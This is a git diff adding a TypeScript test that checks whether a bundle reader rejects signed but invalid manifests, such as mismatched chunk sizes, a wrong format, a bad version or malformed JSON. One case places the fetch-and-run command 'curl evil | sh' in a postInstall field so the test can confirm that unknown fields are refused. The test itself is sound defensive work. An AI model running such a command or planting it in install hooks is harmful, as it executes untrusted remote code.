@@ -9,6 +9,7 @@ import { readBundle } from './bundle-reader.js';
 import type { VerifiedChunk } from './chunk-verifier.js';
 import { keyringOf, type Keyring } from './keyring.js';
 import type { PrivateKey } from './keys.js';
+import { signDetached } from './signature.js';
 
 const IMAGE_SIZE = 5 * 4096 + 100;
 
@@ -241,4 +242,28 @@ test('readBundleHead() closes the source when rest is abandoned unread, and when
   assert.equal(closed, 1, 'abandoning rest closed the source');
   await assert.rejects(readBundleHead(source(bundle), { keyring: keyringOf([]) }), { code: 'ERR_KEY_UNKNOWN' });
   assert.equal(closed, 2, 'a refused head closed the source');
+});
+
+test('readBundle() refuses a correctly signed but invalid manifest with its manifest code and releases nothing', async (t) => {
+  const s = await setup(t);
+  const m = s.parts.manifest;
+  const chunks = m.image.chunks;
+  const cases: Array<[string, Record<string, unknown>, string]> = [
+    ['chunk sizes do not add up', { ...m, image: { ...m.image, size: m.image.size + 1 } }, 'ERR_MANIFEST_CHUNKS'],
+    ['a small chunk in the middle', { ...m, image: { ...m.image, size: m.image.size - 1, chunks: [{ ...chunks[0], size: 4095 }, ...chunks.slice(1)] } }, 'ERR_MANIFEST_CHUNK_SIZE'],
+    ['format 2', { ...m, format: 2 }, 'ERR_MANIFEST_FORMAT'],
+    ['an unknown field', { ...m, postInstall: 'curl evil | sh' }, 'ERR_MANIFEST_FIELD'],
+    ['a bad version', { ...m, version: 'latest' }, 'ERR_BAD_VERSION'],
+  ];
+  for (const [what, manifest, code] of cases) {
+    const manifestBytes = Buffer.from(JSON.stringify(manifest));
+    const signature = Buffer.from(signDetached(manifestBytes, s.key));
+    const result = await attempt(assembleBundle({ manifestBytes, signature, image: s.parts.image }), s.keyring);
+    assert.equal(result.code, code, what);
+    assert.equal(result.released.length, 0, what);
+  }
+  const notJson = Buffer.from('{"format":1,');
+  const result = await attempt(assembleBundle({ manifestBytes: notJson, signature: Buffer.from(signDetached(notJson, s.key)), image: s.parts.image }), s.keyring);
+  assert.equal(result.code, 'ERR_MANIFEST_JSON');
+  assert.equal(result.released.length, 0);
 });
